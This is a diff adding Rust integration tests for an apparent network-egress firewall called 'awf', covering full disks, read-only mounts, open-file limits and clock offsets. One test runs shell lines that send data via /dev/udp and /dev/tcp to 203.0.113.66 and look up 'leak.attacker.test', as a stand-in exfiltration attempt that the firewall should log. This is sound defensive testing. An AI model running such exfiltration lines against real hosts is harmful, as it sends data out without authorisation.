@@ -206,6 +206,84 @@ fn the_disk_is_full_in_the_directory_for_audit_files() {
     check_full("--audit-dir", "full/logs");
 }
 
+/// A file system whose inodes are used up at `$PWD/full`, with the directory `logs` in it.
+const NO_INODES: &str = "mkdir full; mount -t tmpfs -o nr_inodes=8 full full; mkdir full/logs; \
+                         for i in 1 2 3 4 5 6 7 8; do touch full/$i 2>/dev/null || true; done";
+
+#[test]
+fn no_inode_is_left_in_the_directory_for_logs() {
+    let world = World::broken_by(NO_INODES);
+    for (option, directory) in [
+        ("--work-dir", "full/work"),
+        ("--proxy-logs-dir", "full/logs"),
+        ("--audit-dir", "full/logs"),
+    ] {
+        let path = world.path().join(directory);
+        let run = world.run(&[option, path.to_str().unwrap()], MARK);
+        refused(&world, &run, Exit::DiskFull, "No space left");
+        let logs = std::fs::read_dir(world.file(world.path().join("full/logs").to_str().unwrap()));
+        assert_eq!(logs.unwrap().count(), 0, "{option} left something: {run:#?}");
+    }
+}
+
+#[test]
+fn the_directory_for_logs_is_on_a_read_only_file_system() {
+    let world = World::broken_by("mkdir ro; mount -t tmpfs -o ro ro ro");
+    for option in ["--proxy-logs-dir", "--audit-dir", "--work-dir"] {
+        let path = world.path().join("ro/logs");
+        let run = world.run(&[option, path.to_str().unwrap()], MARK);
+        refused(&world, &run, Exit::SetUp, "Read-only file system");
+    }
+}
+
+#[test]
+fn a_low_limit_of_open_files_is_raised_for_awf_and_stays_for_the_command() {
+    let world = World::new();
+    let began = Instant::now();
+    crate::report::injected("limit of open files", "awf");
+    let mut command = world.command("prlimit");
+    command.arg("--nofile=64:4096").arg(awf()).args(["--allow-domains", ALLOWED, "--"]);
+    let many = "ulimit -Sn; ulimit -Hn; for i in $(seq 200); do sleep 3 >/dev/tcp/example.com/443 & done; wait; echo done";
+    let run = finish(command.arg(many).spawn().unwrap(), began);
+    assert_eq!((run.code, run.stdout.as_str()), (0, "64\n4096\ndone\n"), "{run:#?}");
+    assert_eq!(world.left(), [""; 0]);
+}
+
+#[test]
+fn too_few_open_files_that_cannot_be_raised_are_an_error() {
+    crate::report::injected("limit of open files", "awf");
+    let limited = ["prlimit", "--nofile=64:64", "setpriv", "--bounding-set", "-sys_resource"];
+    check_without(&limited, Exit::SetUp, "open only 64 files");
+}
+
+#[test]
+fn in_a_time_namespace_nothing_times_out_and_the_record_is_whole_and_tells_the_time() {
+    for offset in ["100000000", "-1000"] {
+        let world = World::new();
+        let logs = world.path().join("logs");
+        let began = Instant::now();
+        let before = jiff::Timestamp::now();
+        crate::report::injected("clock moved", "awf");
+        let mut command = world.command("unshare");
+        command.args(["--time", "--fork", "--monotonic", offset, "--boottime", offset]);
+        command.arg(awf()).args(["--allow-domains", ALLOWED, "--agent-timeout", "1"]);
+        command.arg("--proxy-logs-dir").arg(&logs);
+        let line = "echo x >/dev/udp/203.0.113.66/9999; getent ahosts leak.attacker.test >/dev/null; \
+                    echo x >/dev/tcp/203.0.113.66/443; sleep 1; echo done";
+        let run = finish(command.args(["--", line]).spawn().unwrap(), began);
+        assert_eq!((run.code, run.stdout.as_str()), (0, "done\n"), "{run:#?}");
+        let records = std::fs::read_to_string(logs.join("egress.jsonl")).unwrap();
+        let records: Vec<serde_json::Value> =
+            records.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        assert!(records.len() >= 3, "{records:#?}");
+        for record in records {
+            let time: jiff::Timestamp = record["time"].as_str().unwrap().parse().unwrap();
+            assert!((before..=jiff::Timestamp::now()).contains(&time), "{offset}: {record:#?}");
+        }
+        assert_eq!(world.left(), [""; 0]);
+    }
+}
+
 #[test]
 fn the_disk_fills_up_during_the_run() {
     let world = World::broken_by("mkdir full; mount -t tmpfs -o size=256k full full");
